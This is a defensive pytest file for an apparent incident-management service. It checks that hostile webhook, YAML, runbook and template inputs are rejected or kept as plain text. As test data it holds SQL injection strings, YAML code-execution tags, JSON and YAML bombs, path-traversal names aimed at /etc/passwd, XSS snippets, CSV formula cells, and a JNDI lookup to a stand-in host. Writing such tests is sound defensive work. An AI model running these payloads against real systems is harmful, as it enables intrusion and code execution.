"""D: what comes in is stored literally, bounded, or refused with nothing stored."""

import csv
import functools
import json
import re
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from markdown_it import MarkdownIt

from incident_copilot.catalog_file import load_catalog
from incident_copilot.domain.alert import Alert
from incident_copilot.domain.catalog import Catalog
from incident_copilot.domain.csv_text import as_csv
from incident_copilot.domain.grouping import matches
from incident_copilot.domain.postmortem import Exhibit, Line, Postmortem, Section, Source
from incident_copilot.errors import BadPayload, ConfigError
from incident_copilot.knowledge.match import RunbookIndex, match_runbooks
from incident_copilot.knowledge.parameters import fill_parameters
from incident_copilot.knowledge.runbook import Step, StepKind
from incident_copilot.knowledge.runbooks import load_runbooks
from incident_copilot.pipeline import postmortem_html, postmortem_markdown
from incident_copilot.plugins import load_config
from incident_copilot.plugins.alert_sources import alertmanager
from incident_copilot.ports import PluginEnv
from incident_copilot.store import alerts
from incident_copilot.store.db import Db
from incident_copilot.vendors import bodies
from incident_copilot.vendors.alert_fields import NOTE

from .bench import alert, now

SQL = ["'; DROP TABLE alerts; --", '" OR 1=1 --', "1); DELETE FROM action_log; --", "\\'; SELECT pg_sleep(10); --"]
STARTED = datetime(2026, 11, 21, tzinfo=UTC)


@functools.cache
def shipped():
    """Those that are shipped."""
    return RunbookIndex.build(load_runbooks(Path(__file__).parents[2] / "runbooks"))


def parse(body):
    """The alerts of a body."""
    env = PluginEnv(http=None, now=lambda: STARTED, secret="s", instance="prod")
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    return alertmanager.create(env, alertmanager.Options()).parse({}, content).alerts


def labelled(**labels):
    """An alert with these labels."""
    return Alert(source="s", fingerprint="f", name="A", status="firing", labels=labels, starts_at=STARTED)


async def refused(bench, body, status=400):
    """A webhook is refused, quickly and with nothing stored but, of one that says who it is, a dead letter."""
    before = await bench.stored()
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    answer = await bench.webhook(content)
    assert answer.status_code == status
    after = await bench.stored()
    assert after.pop("dead_letters") - before.pop("dead_letters") in ({0, 1} if status == 400 else {0})
    assert after == before


@pytest.mark.parametrize("text", SQL)
async def test_d01_sql_in_every_field_is_text(bench, text):
    labels = {"alertname": text, "service": text, "severity": text, text: text}
    body = alert(labels=labels, annotations={"summary": text, "description": text}, fingerprint=text)
    before = await bench.stored()

    answer = await bench.webhook(body)

    async with bench.deps.db.read() as db:
        (row,) = (await db.execute(sa.text("SELECT alert FROM alerts"))).scalars()
    kept = json.loads(row)
    assert answer.status_code == 200
    assert (kept["name"], kept["service"], kept["labels"][text], kept["summary"]) == (text, text, text, text)
    after = await bench.stored()
    assert {name: after[name] - before[name] for name in after if after[name] != before[name]} == {
        "alerts": 1,
        "deliveries": 1,
        "jobs": 1,
        "sources_heard": 1,
    }


@pytest.mark.parametrize("text", [*SQL, "%", "_", "%25"])
async def test_d01_sql_typed_after_the_command_is_text(live, text):
    incident = await live.open(title="Errors")
    ana = live.sandbox.person("ana")

    said = [await ana.command("/incident", f"{verb} {text}") for verb in ("list", "status", "severity P2")]

    assert [answer.ok for answer in said] == [True] * 3
    async with live.deps.db.read() as db:
        assert (await db.execute(sa.text("SELECT title FROM (SELECT count(*) AS title FROM incidents)"))).scalar() == 1
    assert (await live.logged(incident))[-1] == ("incident:severity_set", "U0ANA")


@pytest.mark.parametrize("wild", ["%", "_", "%' OR '1'='1", ".*", "*"])
def test_d02_search_takes_no_wildcard(wild):
    """Runbooks are searched in memory, by words; no statement uses LIKE but with words of its own, or escaped."""
    found = match_runbooks(shipped(), alert_name=wild, labels={}, annotations={"summary": wild})

    source = Path(__file__).parents[2] / "src" / "incident_copilot" / "store"
    unbound = re.compile(r"\.(?:i?like\((?!\")|contains\((?!\w+, autoescape=True\)))")
    assert found == []
    assert [path.name for path in source.rglob("*.py") if unbound.search(path.read_text())] == []


@pytest.mark.parametrize("given", ["x" * 10_000, "", 7, None, ["a"], {"a": 1}, "naïve", "a\nb"])
def test_d03_fingerprint_that_is_none_is_made_anew(given):
    (found,) = parse(alert(fingerprint=given))

    assert re.fullmatch(r"[0-9a-f]{16,64}", found.fingerprint)


async def test_d03_fingerprint_of_ten_megabytes_or_given_twice(bench):
    await refused(bench, alert(fingerprint="x" * 10_000_000), 413)
    twice = json.dumps(alert()).replace('"fingerprint":', '"fingerprint": "other", "fingerprint":')
    await refused(bench, twice.encode())


@pytest.mark.parametrize(
    "at", ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59+14:00", "yesterday", "", None, 7, "2026-11-21T99:00:00Z"]
)
def test_d04_time_that_cannot_be_is_noted(at):
    (found,) = parse(alert(startsAt=at))

    assert found.starts_at == STARTED
    assert "the time of arrival is taken" in found.annotations[NOTE]


def test_d04_time_without_a_zone_and_end_before_its_beginning():
    (naive,) = parse(alert(startsAt="2026-11-20T12:00:00"))
    (backwards,) = parse(
        alert(status="resolved", startsAt="2026-11-20T12:00:00Z", endsAt="2026-11-19T12:00:00Z", fingerprint="b")
    )

    assert naive.starts_at == datetime(2026, 11, 20, 12, tzinfo=UTC)
    assert backwards.ends_at == backwards.starts_at


def test_d05_labels_without_number_and_size_are_capped():
    many = {f"k{n}": "v" for n in range(10_000)}
    odd = {"__proto__": "p", "": "empty", "x" * 65_536: "y" * 65_536, "alertname": "Up"}

    (first,) = parse(alert(labels=many))
    (second,) = parse(alert(labels=odd))

    assert len(first.labels) == 64
    assert "labels or annotations are kept" in first.annotations[NOTE]
    assert max(map(len, second.labels)) <= 200
    assert max(map(len, second.labels.values())) <= 1024
    assert "" not in second.labels
    assert second.labels["__proto__"] == "p"


@pytest.mark.parametrize(
    "body",
    [
        b'{"alerts":' + b"[" * 100_000,
        b'{"alerts":' + b'{"a":' * 100_000,
        b'{"alerts": [], "x": NaN}',
        b'{"alerts": [], "x": -Infinity}',
        b'{"alerts": [], "x": 1e999}',
        b'{"alerts": [], "x": ' + b"9" * 10_000 + b"}",
        b'{"alerts": [' + b"[" * 65 + b"]" * 65 + b"]}",
    ],
)
async def test_d06_body_that_is_made_to_exhaust(bench, body):
    began = time.process_time()
    with pytest.raises(BadPayload):
        bodies.load("x", body)
    assert time.process_time() - began < 0.5  # 50 ms on an idle machine; this one is shared

    await refused(bench, body)


LAUGHS = "a: &a [x, x]\n" + "".join(f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['touch owned']",
        "services: !!python/object/apply:os.system ['touch owned']",
        "services: !!python/name:os.system",
        LAUGHS,
        "services: " + "[" * 5_000,
        "services: [" + "x," * 300_000 + "]",
    ],
)
def test_d07_yaml_that_runs_or_grows(tmp_path, monkeypatch, text):
    monkeypatch.chdir(tmp_path)
    for name, load in (("catalog.yaml", load_catalog), ("copilot.yaml", load_config)):
        (tmp_path / name).write_text(text)
        with pytest.raises(ConfigError):
            load(tmp_path / name)
    (tmp_path / "runbook.md").write_text(f"---\n{text}\n---\n# T\n\n## Diagnosis\n\nx\n")
    library = load_runbooks(tmp_path)

    assert (library.runbooks, len(library.problems)) == ((), 1)
    assert not (tmp_path / "owned").exists()


def test_d07_backstage_catalogue_that_runs_or_grows(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    head = "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: a\n"
    for evil in ("x: !!python/object/apply:os.system ['touch owned']\n", LAUGHS, "x: " + "[" * 5_000):
        (tmp_path / "catalog.yaml").write_text(head + evil)
        with pytest.raises(ConfigError):
            load_catalog(tmp_path / "catalog.yaml")

    assert not (tmp_path / "owned").exists()


def test_d08_runbook_outside_of_its_folder(tmp_path):
    (tmp_path / "secret.md").write_text("# Secret\n\n## Diagnosis\n\nx\n")
    root = tmp_path / "runbooks"
    root.mkdir()
    (root / "link.md").symlink_to(tmp_path / "secret.md")
    (root / "passwd.md").symlink_to("/etc/passwd")
    (root / "folder").symlink_to(tmp_path)
    (root / "%2e%2e.md").write_text("# Dots\n\n## Diagnosis\n\nx\n")
    (root / "~root.md").write_text("# Tilde\n\n## Diagnosis\n\nx\n")

    library = load_runbooks(root)

    assert sorted(runbook.title for runbook in library.runbooks) == ["Dots", "Tilde"]
    assert len([problem for problem in library.problems if "leads out of the folder" in problem]) >= 2


@pytest.mark.parametrize("url", ["../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "a\x00b", "~root/.ssh/id"])
def test_d08_runbook_named_by_an_alert_is_looked_for_among_those_loaded(url):
    """An alert names a runbook by its address; no file is opened for it."""
    (found,) = parse(alert(annotations={"runbook_url": url}))

    matches = match_runbooks(shipped(), alert_name="", labels={}, annotations=found.annotations)

    assert "runbook" not in found.links
    assert matches == []


def test_d09_configuration_takes_no_regular_expression():
    """Where operators could write one, a slow one could hang the copilot; `match` knows no more than wildcards."""
    schema = Catalog.model_json_schema()
    fields = {name for part in (schema, *schema["$defs"].values()) for name in part.get("properties", {})}

    assert {"services", "floors", "workflow"} <= fields
    assert [name for name in fields if re.search("regex|pattern|match|expr", name)] == ["match"]
    assert [matches({"v": "(a+)+$"}, labelled(v=text)) for text in ("a" * 1000, "(a+)+$")] == [False, True]
    assert not matches({"v": "*a" * 60 + "b"}, labelled(v="a" * 1000))


@pytest.mark.parametrize(
    "text", ["{0.__class__}", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%(x)s", "$(id)", "`id`"]
)
async def test_d10_template_in_a_label_is_text(bench, text):
    await bench.webhook(alert(labels={"alertname": "A", "service": text, "version": text}))

    async with bench.deps.db.read() as db:
        (row,) = (await db.execute(sa.text("SELECT alert FROM alerts"))).scalars()
    assert json.loads(row)["labels"]["version"] == text
    # What a shell would run does not get into a command that people copy.
    step = Step(number=1, kind=StepKind.CHECK, text="Look", commands=("kubectl logs {{service}}",))
    assert fill_parameters(step, {"service": text}).commands == ("kubectl logs <service?>",)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1"])
def test_d11_cell_of_a_csv_that_begins_like_a_formula_is_text(cell):
    """All CSV is written in one place."""
    source = Path(__file__).parents[2] / "src" / "incident_copilot"
    writes = re.compile(r"^import csv", re.MULTILINE)

    _, written = csv.reader(as_csv(["heading"], [[cell]]).splitlines())

    assert written == [f"'{cell}"]
    assert [path.name for path in source.rglob("*.py") if writes.search(path.read_text())] == ["csv_text.py"]


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><b>', "</style>"])
def test_d12_postmortem_with_a_script_in_it(text):
    line = Line(text=text, sources=(Source(ref="log:1", label=text),))
    written = Postmortem(
        incident_id="i",
        label="INC-1",
        title=text,
        written_at=STARTED,
        facts=(("Service", text),),
        sections=(Section(key="summary", heading="Summary", lines=(line,), note=text),),
        exhibits=(Exhibit(ref="log:1", title=text, summary=text, at=STARTED),),
    )

    page, markdown = postmortem_html.render(written), postmortem_markdown.render(written)

    assert text not in page.partition("</head>")[2]
    assert "<script" not in page
    assert "<script" not in MarkdownIt("commonmark", {"html": True}).render(markdown)
    assert "<img" not in MarkdownIt("commonmark", {"html": True}).render(markdown)


async def test_d13_nul_byte_in_a_text_is_removed(fresh_postgres_url):
    """PostgreSQL takes none; SQLite would."""
    db = Db.open(fresh_postgres_url)
    annotations = {"summary": "s\x00", "x\x00": "\ud800"}
    (found,) = parse(alert(labels={"alertname": "A\x00B", "service": "a\x00"}, annotations=annotations))
    async with db.transaction() as tx:
        await alerts.record(tx, "w", found, now())
    async with db.read() as view:
        (row,) = (await view.execute(sa.text("SELECT alert FROM alerts"))).scalars()
    await db.close()

    assert (row["name"], row["summary"], "\x00" in json.dumps(row)) == ("AB", "s", False)
